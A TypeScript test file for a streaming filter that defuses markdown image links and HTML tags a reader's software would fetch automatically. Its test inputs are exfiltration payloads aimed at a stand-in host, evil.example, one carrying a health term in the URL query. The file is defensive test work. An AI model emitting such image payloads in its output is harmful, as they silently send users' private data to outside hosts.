import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createImageFilter } from './remote-images.ts'

function filtered(text: string, sizes: readonly number[] = [text.length]): string {
  const filter = createImageFilter()
  let out = ''
  for (let at = 0, n = 0; at < text.length; n++) {
    const size = Math.max(1, sizes[n % sizes.length] ?? 1)
    out += filter.push(text.slice(at, at + size))
    at += size
  }
  return out + filter.end()
}

describe('what a reader’s program would fetch by itself', () => {
  it.each([
    ['![x](https://evil.example/?q=hypertension)', '[x](https://evil.example/?q=hypertension)'],
    ['![](//evil.example/a.png)', '[](//evil.example/a.png)'],
    ['![a [b] c](< https://evil.example/a b>)', '[a [b] c](< https://evil.example/a b>)'],
    ['![a\\]](\nhttps://evil.example/1)', '[a\\]](\nhttps://evil.example/1)'],
    ['![x](HTTP://EVIL.EXAMPLE)', '[x](HTTP://EVIL.EXAMPLE)'],
    ['![x](\\\\evil.example\\a)', '[x](\\\\evil.example\\a)'],
    ['![x](ftp://evil.example/a)', '[x](ftp://evil.example/a)'],
    ['![x][1]\n\n[1]: https://evil.example/1', '[x][1]\n\n[1]: https://evil.example/1'],
    ['[![x](https://evil.example/1)](https://evil.example/2)', '[[x](https://evil.example/1)](https://evil.example/2)'],
    ['!![x](https://evil.example/1)', '! [x](https://evil.example/1)'],
    ['<img src=https://evil.example/1>', '&lt;img src=https://evil.example/1>'],
    ['<IMG\nSRC="https://evil.example/1"/>', '&lt;IMG\nSRC="https://evil.example/1"/>'],
    ['<video/src=//evil.example>', '&lt;video/src=//evil.example>'],
    ['<iframe src=x></iframe>', '&lt;iframe src=x>&lt;/iframe>'],
    ['<link rel=stylesheet href=//evil.example>', '&lt;link rel=stylesheet href=//evil.example>'],
    ['<svg><image href="//evil.example"/></svg>', '&lt;svg>&lt;image href="//evil.example"/>&lt;/svg>'],
  ])('is not fetched: %s', (text, made) => {
    expect(filtered(text)).toBe(made)
  })

  it.each([
    'Take 5 mg! [See the note](https://example.org/note)',
    '![chart](/static/chart.png)',
    '![dot](data:image/png;base64,iVBORw0KGgo=)',
    'if (![1, 2].includes(dose)) stop()',
    'BP <140 and >90; a<b; <b>bold</b>; <imagine>; <linked>',
    'wow!',
    'a < b ! c',
    '![unclosed',
  ])('and nothing else is touched: %s', (text) => {
    expect(filtered(text)).toBe(text)
  })

  it('is the same in whatever pieces it comes', () => {
    const parts = [
      '![',
      'x',
      '](',
      'https://e.example/1',
      ')',
      '<img',
      ' src=',
      '>',
      '</',
      '!',
      '[',
      ']',
      '(',
      'data:image/',
      '\\',
      ' ',
      '<',
      'é',
    ]
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...parts), { maxLength: 30 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 8 }),
        (pieces, sizes) => {
          const text = pieces.join('')
          expect(filtered(text, sizes)).toBe(filtered(text))
        },
      ),
      { numRuns: 2_000 },
    )
  })

  it('never leaves an image of somewhere else, whatever stands around it', () => {
    const parts = ['![', 'x', '](', 'https://e.example/1', ')', '[', ']', '!', '\n', ' ', '\\', '<']
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 25 }), (pieces) => {
        expect(filtered(pieces.join(''))).not.toMatch(/(?<!\\)!\[(?:[^[\]\\]|\\.)*\]\(\s*<?\s*https:/)
      }),
      { numRuns: 2_000 },
    )
  })

  it('holds back so much and no more', () => {
    const filter = createImageFilter()
    expect(filter.push(`![${'a'.repeat(5_000)}`).length).toBeGreaterThan(4_900)
  })
})
